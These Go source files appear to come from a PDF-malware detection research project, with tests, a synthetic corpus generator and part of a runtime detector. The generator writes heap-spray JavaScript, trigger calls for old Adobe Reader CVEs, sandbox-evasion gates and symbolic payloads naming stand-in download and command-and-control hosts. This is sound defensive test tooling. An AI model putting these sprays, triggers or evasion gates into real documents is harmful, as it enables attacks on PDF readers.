	// Figure 6: ~90% of benign documents below 0.2.
	if low < 75 {
		t.Errorf("only %d/100 benign docs below ratio threshold", low)
	}
}

func TestMaliciousRatioMostlyHigh(t *testing.T) {
	g := NewGenerator(4)
	samples := g.MaliciousBatch(100)
	high := 0
	for _, s := range samples {
		_, chains, _, err := instrument.Analyze(s.Raw)
		if err != nil {
			t.Fatalf("%s: %v", s.ID, err)
		}
		if chains.Ratio() >= 0.2 {
			high++
		}
	}
	// Figure 6: ~95% of malicious documents above 0.2.
	if high < 85 {
		t.Errorf("only %d/100 malicious docs above ratio threshold", high)
	}
}

func TestMaliciousSamplesAllHaveJS(t *testing.T) {
	g := NewGenerator(5)
	for _, s := range g.MaliciousBatch(60) {
		// mal-embedded hides its Javascript inside an attached PDF, which
		// only the deep analysis sees.
		merged, _, err := instrument.AnalyzeDeep(s.Raw)
		if err != nil {
			t.Fatalf("%s: %v", s.ID, err)
		}
		if !merged.HasJavaScript {
			t.Errorf("%s (%s): no JS found even deep", s.ID, s.Family)
		}
	}
}

func TestEveryMaliciousFamilyBuilds(t *testing.T) {
	g := NewGenerator(6)
	for _, name := range MaliciousFamilies() {
		s, ok := g.MaliciousFamily(name)
		if !ok {
			t.Fatalf("family %s missing", name)
		}
		if _, err := pdf.Parse(s.Raw, pdf.ParseOptions{}); err != nil {
			t.Errorf("%s: parse: %v", name, err)
		}
		if s.Label != LabelMalicious {
			t.Errorf("%s: label %v", name, s.Label)
		}
	}
}

func TestObfuscationStatisticsRoughlyMatchTableVI(t *testing.T) {
	g := NewGenerator(7)
	const n = 2000
	headerObf, hexCode, emptyObjs, multiEnc, noEnc := 0, 0, 0, 0, 0
	for i := 0; i < n; i++ {
		s := g.Malicious()
		feats, _, _, err := instrument.Analyze(s.Raw)
		if err != nil {
			t.Fatalf("%s: %v", s.ID, err)
		}
		if feats.HeaderObfuscated {
			headerObf++
		}
		if feats.HexCodeCount > 0 {
			hexCode++
		}
		if feats.EmptyObjects > 0 {
			emptyObjs++
		}
		switch {
		case feats.EncodingLevels >= 2:
			multiEnc++
		case feats.EncodingLevels == 0:
			noEnc++
		}
	}
	// Paper rates: 7.8% header obf, 7.4% hex, 0.18% empty objects, ~1%
	// multi-encoding, ~3.2% no encoding. Allow generous tolerance.
	within := func(name string, got int, wantPct, tolPct float64) {
		gotPct := float64(got) / n * 100
		if gotPct < wantPct-tolPct || gotPct > wantPct+tolPct {
			t.Errorf("%s rate = %.2f%%, want %.2f%%±%.2f", name, gotPct, wantPct, tolPct)
		}
	}
	within("header-obf", headerObf, 7.8, 3)
	within("hex-code", hexCode, 7.4, 3)
	within("empty-objects", emptyObjs, 0.18, 0.5)
	within("multi-encoding", multiEnc, 1.0, 1.0)
	within("no-encoding", noEnc, 3.2, 2.5)
}

func TestOutcomeMixIncludesNoopAndCrash(t *testing.T) {
	g := NewGenerator(8)
	counts := map[Outcome]int{}
	for _, s := range g.MaliciousBatch(400) {
		counts[s.Outcome]++
	}
	if counts[OutcomeNoop] == 0 {
		t.Error("no noop samples in mix")
	}
	if counts[OutcomeCrash] == 0 {
		t.Error("no crasher samples in mix")
	}
	if counts[OutcomeExploit] < 300 {
		t.Errorf("working exploits = %d/400, too few", counts[OutcomeExploit])
	}
	noopPct := float64(counts[OutcomeNoop]) / 400 * 100
	if noopPct < 2 || noopPct > 12 {
		t.Errorf("noop fraction %.1f%%, want ~6%%", noopPct)
	}
}

func TestBenignBatchJSIncidence(t *testing.T) {
	g := NewGenerator(9)
	samples := g.BenignBatch(400)
	withJS := 0
	for _, s := range samples {
		if s.HasJS {
			withJS++
		}
	}
	// Paper: 994/18623 ≈ 5.3%.
	pct := float64(withJS) / 4
	if pct < 2 || pct > 10 {
		t.Errorf("JS incidence = %.1f%%, want ~5%%", pct)
	}
}

func TestSizedDocuments(t *testing.T) {
	g := NewGenerator(10)
	for _, target := range []int{2 << 10, 24 << 10, 325 << 10, 2 << 20} {
		s := g.Sized(target, false)
		if len(s.Raw) < target/2 || len(s.Raw) > target*3 {
			t.Errorf("target %d: got %d bytes", target, len(s.Raw))
		}
		if _, chains, _, err := instrument.Analyze(s.Raw); err != nil || !chains.HasJavaScript() {
			t.Errorf("target %d: analyze err=%v", target, err)
		}
	}
	m := g.Sized(512<<10, true)
	if len(m.Raw) < 256<<10 {
		t.Errorf("padded malicious = %d bytes", len(m.Raw))
	}
	if _, err := pdf.Parse(m.Raw, pdf.ParseOptions{}); err != nil {
		t.Errorf("padded malicious parse: %v", err)
	}
}

func TestGeneratorDeterminism(t *testing.T) {
	a := NewGenerator(42).MaliciousBatch(5)
	b := NewGenerator(42).MaliciousBatch(5)
	for i := range a {
		if a[i].Family != b[i].Family || len(a[i].Raw) != len(b[i].Raw) {
			t.Errorf("sample %d differs across equal seeds", i)
		}
	}
}

func TestEncryptedBenignRoundTrip(t *testing.T) {
	g := NewGenerator(11)
	s := g.BenignEncrypted()
	doc, err := pdf.Parse(s.Raw, pdf.ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !doc.IsEncrypted() {
		t.Fatal("sample not encrypted")
	}
	feats, chains, _, err := instrument.Analyze(s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !chains.HasJavaScript() {
		t.Error("JS not recovered after password removal")
	}
	if !feats.HasJavaScript {
		t.Error("features missed JS")
	}
}
