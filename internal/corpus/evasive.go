package corpus

import "pdfshield/internal/reader"

// Evasive samples are working exploits hidden behind execution gates
// that evaluate false inside any single-execution sandbox: time bombs,
// environment fingerprints and emulation checks (the §II delayed-
// trigger population). Opened naturally they do nothing observable —
// the gate stays closed, no runtime feature fires, and a standard scan
// classifies them benign. A forced-execution deep scan explores the
// closed arm of the gate and detonates the payload.
//
// They live outside the weighted Malicious() mix so the corpus
// statistics of the base evaluation (family frequencies, Table VI
// obfuscation rates) stay untouched.

// evasiveFamily is one gating technique wrapped around a working
// in-JS exploit.
type evasiveFamily struct {
	Name string
	// CVE selects the vulnerable API the hidden payload triggers.
	CVE string
	// Gate wraps the exploit body in the dormancy check.
	Gate func(g *Generator, body string) string
}

var evasiveFamilies = []evasiveFamily{
	{
		// Time bomb: detonates only after a future date. Analysis
		// sandboxes (including this one — the simulated clock is frozen
		// in 2013) observe a dormant document.
		Name: "mal-timebomb",
		CVE:  reader.CVE20082992,
		Gate: func(g *Generator, body string) string {
			v := varNamer(g.rng)("d")
			return "var " + v + " = new Date();\n" +
				"if (" + v + ".getFullYear() >= 2015) {\n" + body + "\n}"
		},
	},
	{
		// Environment fingerprint: the exploit targets one victim
		// locale and stays dormant everywhere else — the classic
		// targeted-attack gate a generic sandbox never satisfies.
		Name: "mal-envgate",
		CVE:  reader.CVE20090927,
		Gate: func(g *Generator, body string) string {
			return `if (app.language == "CHS" && app.platform == "WIN") {` + "\n" + body + "\n}"
		},
	},
	{
		// Emulation check: real hosts tick between two clock reads;
		// instrumented analysis environments commonly freeze time. A
		// zero elapsed reading means "I am being watched" and the
		// sample plays dead.
		Name: "mal-emucheck",
		CVE:  reader.CVE20094324,
		Gate: func(g *Generator, body string) string {
			v := varNamer(g.rng)
			t0, t1, wv, iv := v("t"), v("u"), v("w"), v("i")
			return "var " + t0 + " = new Date().getTime();\n" +
				"var " + wv + " = 0;\n" +
				"for (var " + iv + " = 0; " + iv + " < 5000; " + iv + "++) " + wv + " += " + iv + ";\n" +
				"var " + t1 + " = new Date().getTime();\n" +
				"if (" + t1 + " - " + t0 + " > 0) {\n" + body + "\n}"
		},
	},
}

// EvasiveKinds lists the gated-family names.
func EvasiveKinds() []string {
	out := make([]string, len(evasiveFamilies))
	for i, f := range evasiveFamilies {
		out[i] = f.Name
	}
	return out
}

// Evasive builds one sample from a named gated family. The Outcome is
// OutcomeNoop: on a natural (standard-depth) open the gate never opens
// and the document does nothing.
func (g *Generator) Evasive(name string) (Sample, bool) {
	for _, f := range evasiveFamilies {
		if f.Name != name {
			continue
		}
		body := sprayJS(g.rng, payloadFor(g.rng), sprayMBFor(g.rng, f.CVE, true)) + "\n" + triggerJS(g.rng, f.CVE)
		spec := docSpec{
			scripts:        []string{f.Gate(g, body)},
			pages:          1,
			scriptAsStream: true,
			encodingLevels: 1,
		}
		raw, err := buildDoc(g.rng, spec)
		if err != nil {
			panic("corpus: " + f.Name + ": " + err.Error())
		}
		return Sample{
			ID:      g.id(f.Name),
			Raw:     raw,
			Label:   LabelMalicious,
			Family:  f.Name,
			HasJS:   true,
			Outcome: OutcomeNoop,
		}, true
	}
	return Sample{}, false
}
