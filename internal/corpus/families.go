package corpus

import (
	"math/rand"

	"pdfshield/internal/reader"
)

// malFamily defines one malicious family's construction.
type malFamily struct {
	Name string
	// Weight is the relative frequency in the corpus mix; the mix
	// reproduces the exploit-vector distribution the paper describes
	// (interpreter CVEs dominate; Flash/U3D/font vectors present; ~6%
	// non-working on Acrobat 8/9; a small crasher tail).
	Weight  int
	Outcome Outcome
	Build   func(g *Generator) docSpec
}

// payloadFor draws a payload program.
func payloadFor(rng *rand.Rand) string {
	switch rng.Intn(6) {
	case 0, 1:
		return payloadDropExec(rng)
	case 2:
		return payloadDriveBy(rng)
	case 3:
		return payloadReverseShell(rng)
	case 4:
		return payloadDropExec(rng) + ";" + payloadReverseShell(rng)
	default:
		return payloadInject(rng)
	}
}

// jsExploitSpec assembles spray + trigger for an in-JS CVE.
func (g *Generator) jsExploitSpec(cve string, succeed bool) docSpec {
	payload := payloadFor(g.rng)
	body := sprayJS(g.rng, payload, sprayMBFor(g.rng, cve, succeed)) + "\n" + triggerJS(g.rng, cve)
	if g.rng.Intn(3) == 0 {
		body = obfuscateSource(g.rng, body)
	}
	return docSpec{
		scripts:        []string{body},
		pages:          1,
		scriptAsStream: true,
	}
}

var malFamilies = []malFamily{
	{
		Name: "mal-printf", Weight: 18, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec { return g.jsExploitSpec(reader.CVE20082992, true) },
	},
	{
		Name: "mal-geticon", Weight: 16, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec { return g.jsExploitSpec(reader.CVE20090927, true) },
	},
	{
		Name: "mal-newplayer", Weight: 12, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec { return g.jsExploitSpec(reader.CVE20094324, true) },
	},
	{
		Name: "mal-customdict", Weight: 7, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec { return g.jsExploitSpec(reader.CVE20091493, true) },
	},
	{
		Name: "mal-printseps", Weight: 5, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec { return g.jsExploitSpec(reader.CVE20104091, true) },
	},
	{
		Name: "mal-flash", Weight: 8, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec {
			// JS only sprays; the malformed SWF triggers out of JS context.
			spec := docSpec{
				scripts:        []string{sprayJS(g.rng, "", sprayMBFor(g.rng, reader.CVE20103654, true))},
				pages:          1,
				scriptAsStream: true,
				flashPayload:   payloadFor(g.rng),
			}
			return spec
		},
	},
	{
		Name: "mal-cooltype", Weight: 8, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec {
			return docSpec{
				scripts:        []string{sprayJS(g.rng, "", sprayMBFor(g.rng, reader.CVE20102883, true))},
				pages:          1,
				scriptAsStream: true,
				fontPayload:    payloadFor(g.rng),
			}
		},
	},
	{
		Name: "mal-getannots", Weight: 4, Outcome: OutcomeNoop,
		Build: func(g *Generator) docSpec {
			// CVE-2009-1492 samples gate on the viewer version and bail on
			// Acrobat 8/9 before doing anything observable — the paper's
			// "did nothing when opened" population.
			spec := g.jsExploitSpec(reader.CVE20091492, true)
			spec.scripts[0] = "if (app.viewerVersion > 9.05 && app.viewerVersion < 9.2) {\n" + spec.scripts[0] + "\n}"
			return spec
		},
	},
	{
		Name: "mal-xfa", Weight: 2, Outcome: OutcomeNoop,
		Build: func(g *Generator) docSpec {
			// CVE-2013-0640-style: targets Reader 11; on Acrobat 8/9 the
			// version check fails and the sample does nothing.
			body := sprayJS(g.rng, payloadFor(g.rng), 60)
			return docSpec{
				scripts:        []string{"if (app.viewerVersion >= 11) {\n" + body + "\n}"},
				pages:          1,
				scriptAsStream: true,
			}
		},
	},
	{
		Name: "mal-egghunt", Weight: 4, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec {
			cve := reader.CVE20090927
			spec := docSpec{
				scripts: []string{
					sprayJS(g.rng, payloadEggHunt(g.rng), sprayMBFor(g.rng, cve, true)) + "\n" + triggerJS(g.rng, cve),
				},
				pages:          1,
				scriptAsStream: true,
				eggData:        []byte("MZ\x90 second-stage implant"),
			}
			return spec
		},
	},
	{
		Name: "mal-driveby", Weight: 4, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec {
			cve := reader.CVE20094324
			return docSpec{
				scripts: []string{
					sprayJS(g.rng, payloadDriveBy(g.rng), sprayMBFor(g.rng, cve, true)) + "\n" + triggerJS(g.rng, cve),
				},
				pages:          1,
				scriptAsStream: true,
			}
		},
	},
	{
		Name: "mal-staged", Weight: 2, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec {
			cve := reader.CVE20082992
			inner := sprayJS(g.rng, payloadFor(g.rng), sprayMBFor(g.rng, cve, true)) + "\n" + triggerJS(g.rng, cve)
			stage1 := `this.addScript("updater", ` + jsQuote(inner) + `);`
			return docSpec{scripts: []string{stage1}, pages: 1, scriptAsStream: true}
		},
	},
	{
		Name: "mal-delayed", Weight: 2, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec {
			cve := reader.CVE20104091
			inner := sprayJS(g.rng, payloadFor(g.rng), sprayMBFor(g.rng, cve, true)) + "\n" + triggerJS(g.rng, cve)
			stage1 := `app.setTimeOut(` + jsQuote(inner) + `, 3000);`
			return docSpec{scripts: []string{stage1}, pages: 1, scriptAsStream: true}
		},
	},
	{
		Name: "mal-titlehidden", Weight: 2, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec {
			// Syntax obfuscation from §II: the payload lives in the
			// document title and the script references this.info.title.
			cve := reader.CVE20090927
			payload := payloadDropExec(g.rng)
			v := varNamer(g.rng)
			pv, nv, bv, iv := v("p"), v("n"), v("b"), v("i")
			mb := sprayMBFor(g.rng, cve, true)
			script := `
var ` + pv + ` = this.info.title;
var ` + nv + ` = unescape("%0c%0c%0c%0c");
while (` + nv + `.length < 524288) ` + nv + ` += ` + nv + `;
var ` + bv + ` = [];
for (var ` + iv + ` = 0; ` + iv + ` < ` + itoa(mb) + `; ` + iv + `++) ` + bv + `[` + iv + `] = ` + nv + ` + ` + pv + ` + "|";
` + triggerJS(g.rng, cve)
			return docSpec{
				scripts:        []string{script},
				pages:          1,
				scriptAsStream: true,
				infoTitle:      jsUnescapePayload(payload),
			}
		},
	},
	{
		Name: "mal-embedded", Weight: 2, Outcome: OutcomeExploit,
		Build: func(g *Generator) docSpec {
			// §VI vector: a clean-looking host carrying a malicious PDF as
			// an attachment. The host itself has no Javascript at all.
			inner := g.jsExploitSpec(reader.CVE20090927, true)
			innerRaw, err := buildDoc(g.rng, inner)
			if err != nil {
				panic("corpus: mal-embedded inner: " + err.Error())
			}
			return docSpec{
				pages:        4,
				contentBytes: 90 << 10,
				embedPDFs:    [][]byte{innerRaw},
			}
		},
	},
	{
		Name: "mal-crasher", Weight: 2, Outcome: OutcomeCrash,
		Build: func(g *Generator) docSpec {
			// Obfuscated crasher: spray too small, hijack misses, but
			// static features + F8 still catch it.
			spec := g.jsExploitSpec(reader.CVE20082992, false)
			return spec
		},
	},
	{
		Name: "mal-crasher-clean", Weight: 3, Outcome: OutcomeCrash,
		Build: func(g *Generator) docSpec {
			// Unobfuscated crasher: the paper's 25 false negatives — no
			// static feature contributes and the exploit never completes.
			cve := reader.CVE20094324
			body := sprayJS(g.rng, payloadDropExec(g.rng), sprayMBFor(g.rng, cve, false)) + "\n" + triggerJS(g.rng, cve)
			return docSpec{
				scripts:        []string{body},
				pages:          2,
				contentBytes:   60 << 10, // enough benign bulk to keep F1 low
				scriptAsStream: true,
				noEncoding:     true,
			}
		},
	},
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf [12]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	return string(buf[i:])
}

// Malicious builds one malicious sample from the weighted family mix,
// applying the Table VI obfuscation statistics.
func (g *Generator) Malicious() Sample {
	total := 0
	for _, f := range malFamilies {
		total += f.Weight
	}
	pick := g.rng.Intn(total)
	var fam malFamily
	for _, f := range malFamilies {
		if pick < f.Weight {
			fam = f
			break
		}
		pick -= f.Weight
	}
	return g.buildMalicious(fam)
}

// MaliciousFamily builds a sample from a named family.
func (g *Generator) MaliciousFamily(name string) (Sample, bool) {
	for _, f := range malFamilies {
		if f.Name == name {
			return g.buildMalicious(f), true
		}
	}
	return Sample{}, false
}

// MaliciousFamilies lists family names.
func MaliciousFamilies() []string {
	out := make([]string, len(malFamilies))
	for i, f := range malFamilies {
		out[i] = f.Name
	}
	return out
}

func (g *Generator) buildMalicious(fam malFamily) Sample {
	spec := fam.Build(g)
	// Malware generators rarely bother with document metadata; a minority
	// carries junk /Info to look less bare.
	if spec.infoTitle == "" && g.rng.Intn(100) >= 15 {
		spec.noInfo = true
	}
	obfuscated := false
	if fam.Name != "mal-crasher-clean" {
		// Table VI rates over the malicious corpus: header obfuscation
		// 578/7370, hex keywords 543/7370, empty objects 13/7370,
		// multi-level encoding 71/7370, no encoding 233/7370.
		if g.rng.Intn(1000) < 78 {
			spec.headerObf = true
			obfuscated = true
		}
		if g.rng.Intn(1000) < 74 {
			spec.hexKeyword = true
			obfuscated = true
		}
		if g.rng.Intn(10000) < 18 {
			spec.emptyObjects = 1 + g.rng.Intn(3)
			obfuscated = true
		}
		// mal-crasher-clean (3.2% of the mix) already contributes the bulk
		// of the no-encoding population.
		switch r := g.rng.Intn(1000); {
		case r < 10:
			spec.encodingLevels = 2 + g.rng.Intn(2)
			obfuscated = true
		case r < 15:
			spec.noEncoding = true
		default:
			if spec.encodingLevels == 0 {
				spec.encodingLevels = 1
			}
		}
		// ~5% of malicious docs carry benign-looking bulk, producing the
		// low-ratio tail of Figure 6; ~6% are degenerate (no page content
		// at all), the paper's 64 ratio-1 samples.
		switch r := g.rng.Intn(100); {
		case r < 5:
			spec.pages = 7
			spec.contentBytes = 240 << 10
		case r < 11:
			if spec.flashPayload == "" && spec.fontPayload == "" {
				spec.noPages = true
				spec.pages = 0
			}
		}
	}
	raw, err := buildDoc(g.rng, spec)
	if err != nil {
		panic("corpus: " + fam.Name + ": " + err.Error())
	}
	return Sample{
		ID:         g.id(fam.Name),
		Raw:        raw,
		Label:      LabelMalicious,
		Family:     fam.Name,
		HasJS:      true,
		Outcome:    fam.Outcome,
		Obfuscated: obfuscated,
	}
}

// MaliciousBatch builds n malicious samples from the mix.
func (g *Generator) MaliciousBatch(n int) []Sample {
	out := make([]Sample, n)
	for i := range out {
		out[i] = g.Malicious()
	}
	return out
}

// BenignWithJS builds n benign samples that all contain Javascript
// (the 994-sample population of §V-B).
func (g *Generator) BenignWithJS(n int) []Sample {
	out := make([]Sample, 0, n)
	for len(out) < n {
		var s Sample
		switch g.rng.Intn(20) {
		case 0:
			s = g.BenignSOAPJS()
		case 1, 2:
			s = g.BenignMultiScript()
		case 3:
			s = g.BenignEncrypted()
		case 4, 5, 6:
			s = g.BenignNavJS()
		default:
			s = g.BenignFormJS()
		}
		out = append(out, s)
	}
	return out
}

// BenignBatch builds n benign samples with the paper's ~5% JS incidence.
func (g *Generator) BenignBatch(n int) []Sample {
	out := make([]Sample, 0, n)
	for len(out) < n {
		if g.rng.Intn(100) < 5 {
			out = append(out, g.BenignWithJS(1)...)
			continue
		}
		size := 4<<10 + g.rng.Intn(900<<10)
		out = append(out, g.BenignText(size))
	}
	return out
}
