package corpus

import (
	"fmt"
	"math/rand"
	"strings"

	"pdfshield/internal/reader"
)

// Script templates. Every malicious script is assembled from a spray
// fragment (sized against the CVE's hijack target), a payload program, and
// a trigger fragment for the vulnerable API, with optional source-level
// obfuscation on top.

// sprayBlockUnits is the UTF-16 size of one spray block (0.5 Mi units ->
// 1 MiB of accounted heap).
const sprayBlockUnits = 1 << 19

// sprayJS builds the canonical doubling + block-array spray reaching
// totalMB of accounted allocations, embedding the payload program into
// every block.
func sprayJS(rng *rand.Rand, payload string, totalMB int) string {
	blocks := totalMB // one block ≈ 1 MB accounted
	if blocks < 2 {
		blocks = 2
	}
	nop := nopUnit(rng)
	v := varNamer(rng)
	pv, nv, bv, iv := v("p"), v("n"), v("b"), v("i")
	return fmt.Sprintf(`
var %s = "%s|";
var %s = unescape("%s");
while (%s.length < %d) %s += %s;
var %s = [];
for (var %s = 0; %s < %d; %s++) %s[%s] = %s + %s;
`, pv, payload, nv, nop, nv, sprayBlockUnits, nv, nv, bv, iv, iv, blocks, iv, bv, iv, nv, pv)
}

// nopUnit picks a sled pattern. ASCII sleds keep bulk experiments cheap;
// the classic %u0c0c appears in a fraction of samples for authenticity.
func nopUnit(rng *rand.Rand) string {
	if rng.Intn(10) == 0 {
		return "%u0c0c%u0c0c"
	}
	pats := []string{"%0c%0c%0c%0c", "%0d%0d%0d%0d", "%41%41%41%41"}
	return pats[rng.Intn(len(pats))]
}

// varNamer yields short randomized identifiers.
func varNamer(rng *rand.Rand) func(prefix string) string {
	return func(prefix string) string {
		const letters = "abcdefghijklmnopqrstuvwxyz"
		var sb strings.Builder
		sb.WriteString(prefix)
		for i := 0; i < 4; i++ {
			sb.WriteByte(letters[rng.Intn(len(letters))])
		}
		return sb.String()
	}
}

// payloadDropExec is the classic drop-and-run payload.
func payloadDropExec(rng *rand.Rand) string {
	name := fmt.Sprintf(`C:\\tmp\\upd%03d.exe`, rng.Intn(1000))
	return "PAYLOAD:DROP=" + name + ";EXEC=" + name
}

// payloadDriveBy downloads a second stage then runs it.
func payloadDriveBy(rng *rand.Rand) string {
	host := fmt.Sprintf("cdn%02d.mal.example.net", rng.Intn(100))
	path := fmt.Sprintf(`C:\\tmp\\dl%03d.exe`, rng.Intn(1000))
	return "PAYLOAD:DOWNLOAD=http://" + host + "/p.exe," + path + ";EXEC=" + path
}

// payloadReverseShell connects back / listens.
func payloadReverseShell(rng *rand.Rand) string {
	if rng.Intn(2) == 0 {
		return fmt.Sprintf("PAYLOAD:CONNECT=c2-%02d.example.net:443", rng.Intn(100))
	}
	return fmt.Sprintf("PAYLOAD:LISTEN=%d", 4000+rng.Intn(2000))
}

// payloadEggHunt searches memory for the embedded egg.
func payloadEggHunt(rng *rand.Rand) string {
	return fmt.Sprintf(`PAYLOAD:EGGHUNT=C:\\tmp\\egg%03d.exe`, rng.Intn(1000))
}

// payloadInject drops a DLL and injects it.
func payloadInject(rng *rand.Rand) string {
	dll := fmt.Sprintf(`C:\\tmp\\hk%03d.dll`, rng.Intn(1000))
	return "PAYLOAD:DROP=" + dll + ";INJECT=" + dll
}

// triggerJS renders the vulnerable-API call for a CVE.
func triggerJS(rng *rand.Rand, cve string) string {
	switch cve {
	case reader.CVE20082992:
		return `util.printf("%45000f", 0.01);`
	case reader.CVE20090927:
		v := varNamer(rng)("s")
		return fmt.Sprintf(`var %s = unescape("%%0a%%0a%%0a%%0a"); while (%s.length < 8192) %s += %s; Collab.getIcon(%s + "_N.bundle");`, v, v, v, v, v)
	case reader.CVE20094324:
		return `try { media.newPlayer(null); } catch(e) {}`
	case reader.CVE20091493:
		v := varNamer(rng)("d")
		return fmt.Sprintf(`var %s = unescape("%%41%%41"); while (%s.length < 8192) %s += %s; spell.customDictionaryOpen(0, %s);`, v, v, v, v, v)
	case reader.CVE20104091:
		return `this.printSeps();`
	case reader.CVE20091492:
		return `this.syncAnnotScan(); var an = this.getAnnots({nPage: 0});`
	default:
		return ""
	}
}

// sprayMBFor sizes a spray for a CVE's hijack target, with margin.
func sprayMBFor(rng *rand.Rand, cve string, succeed bool) int {
	target, ok := reader.TargetOf(cve)
	if !ok {
		target = 0x0c0c0c0c
	}
	needMB := int((target-reader.HeapBase())/(1<<20)) + 1
	if succeed {
		// A heavy tail of samples sprays far beyond the target (Figure 7's
		// >1700 MB outlier class).
		if rng.Intn(12) == 0 {
			return needMB*3 + rng.Intn(needMB*9)
		}
		return needMB + 8 + rng.Intn(needMB/2+1) // margin + family spread
	}
	short := needMB / 4
	if short < 8 {
		short = 8
	}
	return needMB - short // insufficient: hijack misses -> crash
}

// benign scripts -------------------------------------------------------

var benignFormScripts = []string{
	`var f = this.getField("total");
var subtotal = 125.50;
var tax = subtotal * 0.08;
f.value = util.printf("%.2f", subtotal + tax);`,

	`var today = util.printd("yyyy/mm/dd", 0);
var f = this.getField("date");
f.value = today;
this.calculateNow();`,

	`function validate(v) {
  if (v < 0 || v > 100) { app.alert("Value out of range"); return 0; }
  return 1;
}
var ok = validate(42);`,

	`var name = this.getField("name");
var greeting = util.printf("Hello, %s", name.value);
app.alert(greeting);`,

	`var pages = this.numPages;
var msg = "This report has " + pages + " page(s).";
if (app.viewerVersion < 7) { app.alert("Please upgrade your reader."); }`,

	`var parts = "2013-06-01".split("-");
var year = parseInt(parts[0], 10);
if (isNaN(year)) year = 2013;
var label = year + "/" + parts[1];`,
}

// benignHeavyScripts are legitimate report/table builders that allocate a
// few MB of strings — the source of Figure 7's benign memory (avg ~7 MB,
// max ~21 MB), still far below any spray.
var benignHeavyScripts = []string{
	`var rows = [];
for (var i = 0; i < 25000; i++) {
  rows[i] = "Row " + i + ": amount=" + (i * 3) + " status=OK";
}
var report = rows.join("\n");
var f = this.getField("report");
f.value = report.substring(0, 200);`,

	`var cells = [];
for (var r = 0; r < 280; r++) {
  var line = "";
  for (var c = 0; c < 55; c++) {
    line += "cell(" + r + "," + c + ");";
  }
  cells[r] = line;
}
var table = cells.join("|");`,

	`var log = [];
for (var i = 0; i < 60000; i++) {
  log[i] = "entry " + i + " ts=" + (1000000 + i) + " level=INFO msg=render page";
}
var joined = log.join("\n");
var head = joined.substring(0, 100);`,

	`var words = "lorem ipsum dolor sit amet consectetur".split(" ");
var body = [];
for (var i = 0; i < 20000; i++) {
  body[i] = words[i % words.length] + "-" + i;
}
var doc = body.join(" ");`,
}

func benignHeavyScript(rng *rand.Rand) string {
	return benignHeavyScripts[rng.Intn(len(benignHeavyScripts))]
}

var benignNavScripts = []string{
	`this.pageNum = 0; this.syncAnnotScan();`,
	`var v = app.viewerVersion; if (v >= 8) { this.calculateNow(); }`,
	`app.beep(0);`,
	`var total = 0; for (var i = 0; i < this.numPages; i++) total += i;`,
}

// benignSOAPScript is the rare legitimate web-service user (the paper's
// single in-JS network sample, still classified benign).
const benignSOAPScript = `
var service = "http://quotes.example-corp.com/soap";
var resp = SOAP.request({cURL: service, oRequest: {symbol: "ADBE"}});
`

func benignFormScript(rng *rand.Rand) string {
	return benignFormScripts[rng.Intn(len(benignFormScripts))]
}

func benignNavScript(rng *rand.Rand) string {
	return benignNavScripts[rng.Intn(len(benignNavScripts))]
}

// obfuscateSource applies source-level obfuscation used in the wild:
// eval-of-string wrapping and string splitting. The instrumented pipeline
// is immune to these by construction.
func obfuscateSource(rng *rand.Rand, src string) string {
	switch rng.Intn(3) {
	case 0:
		// eval of escaped source.
		return "eval(" + jsQuote(src) + ");"
	case 1:
		// split + join indirection.
		v := varNamer(rng)("q")
		half := len(src) / 2
		return fmt.Sprintf("var %s = %s + %s;\neval(%s);", v, jsQuote(src[:half]), jsQuote(src[half:]), v)
	default:
		return src
	}
}

func jsQuote(s string) string {
	var sb strings.Builder
	sb.WriteByte('"')
	for _, r := range s {
		switch r {
		case '"', '\\':
			sb.WriteByte('\\')
			sb.WriteRune(r)
		case '\n':
			sb.WriteString("\\n")
		case '\r':
			sb.WriteString("\\r")
		case '\t':
			sb.WriteString("\\t")
		default:
			if r < 0x20 {
				fmt.Fprintf(&sb, "\\u%04x", r)
			} else {
				sb.WriteRune(r)
			}
		}
	}
	sb.WriteByte('"')
	return sb.String()
}
