package detect

import (
	"errors"
	"fmt"
	"strings"
	"sync"

	"pdfshield/internal/hook"
	"pdfshield/internal/instrument"
	"pdfshield/internal/journal"
	"pdfshield/internal/obs"
	"pdfshield/internal/sandbox"
	"pdfshield/internal/soapsrv"
	"pdfshield/internal/winos"
)

// Config configures the runtime detector.
type Config struct {
	// Registry maps instrumentation keys to documents (shared with the
	// front-end).
	Registry *instrument.Registry
	// OS is the fake OS confinement acts on.
	OS *winos.OS
	// DownloadsPath persists the JS-context executable list ("" = memory).
	DownloadsPath string
	// W1, W2, Threshold override Table VII (0 = defaults).
	W1, W2, Threshold int
	// MemoryThresholdMB overrides the F8 cutoff (0 = 100 MB).
	MemoryThresholdMB float64
	// Obs, when non-nil, receives alert / fake-message / per-feature
	// trigger counters.
	Obs *obs.Registry
	// Journal, when non-nil, receives the forensic event stream: every
	// context transition, hook event with its decision, feature trigger,
	// confinement action and alert. Appends happen under the detector's
	// state lock, so journal order is state-machine order — the contract
	// journal.Replay depends on. Journal sink errors are fail-open (see
	// internal/journal) and never affect detection.
	Journal *journal.Writer
}

// Alert is raised when a document's malscore crosses the threshold or a
// fake message is received.
type Alert struct {
	DocID    string
	InstrKey string
	Malscore int
	Features Vector
	Reason   string
	// Cause is the validation error text behind a fake-message (mimicry)
	// alert ("" for malscore alerts), so the alert carries the same
	// diagnosis the journal and metrics record.
	Cause string
	// IsolatedFiles are paths quarantined by confinement.
	IsolatedFiles []string
	// TerminatedPIDs are sandboxed processes killed by confinement.
	TerminatedPIDs []int
	// Ops is the recorded suspicious-operation log.
	Ops []string
}

// DocState is the per-document runtime state (one active malscore per
// unknown open PDF, §III-E).
type DocState struct {
	InstrKey string
	DocID    string
	// PID is the reader process the document is open in (0 when the
	// sender predates PID-tagged notifications; such documents match any
	// process).
	PID      int
